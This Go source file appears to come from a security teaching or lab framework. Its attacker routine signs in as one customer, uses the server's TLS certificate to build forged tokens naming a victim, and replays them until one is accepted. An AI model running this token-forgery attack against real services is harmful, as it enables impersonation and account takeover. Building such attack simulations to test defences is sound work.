package attacker

import (
	"context"
	"errors"
	"fmt"

	"keyladder/mobileclient/attacker/forge"
	"keyladder/stages/protect"
)

// tokenForge gets a token as any customer does, and makes others out of it that say that the
// user is the victim. A token carries with it what a server would have to look up otherwise,
// and even how it wants to be verified. All that keeps its bearer from changing that is that
// the server decides beforehand what it believes.
//
//keyladder:code attack-token-forge
func tokenForge(ctx context.Context, g *Given) (Result, error) {
	p, err := newProgram(g, protect.Identity{ClientID: g.ClientID})
	if err != nil {
		return Result{}, err
	}
	defer p.close()
	if err := p.enter(ctx); err != nil {
		return stopped(err)
	}
	own := p.caller.Identity().Token
	dressed, err := p.caller.Dress(protect.Call{Path: "/v1/accounts"})
	if err != nil {
		return Result{}, err
	}
	response, _, err := p.send(ctx, dressed)
	if err != nil {
		return Result{}, err
	}
	if response.TLS == nil || len(response.TLS.PeerCertificates) == 0 {
		return Result{}, errors.New("the API showed no certificate whose public key could be tried")
	}
	forgeries, err := forge.For(aCustomer, own, response.TLS.PeerCertificates[0])
	if err != nil {
		return Result{}, err
	}
	g.Say("Signed in as ourselves, and took our own token apart: header, claims, signature. Made %d tokens for %s out of it.", len(forgeries), aCustomer)
	for _, forged := range forgeries {
		if err = p.show(func(as *protect.Identity) { as.Token = forged.Token }); err != nil {
			return Result{}, err
		}
		err = p.rob(ctx)
		var refused *refusal
		switch {
		case err == nil:
			g.Say("Served: %s.", forged.What)
			return Result{Claim: true}, nil
		case !errors.As(err, &refused):
			return Result{}, fmt.Errorf("%s: %w", forged.What, err)
		}
		g.Say("Refused: %s.", forged.What)
	}
	return stopped(err)
}
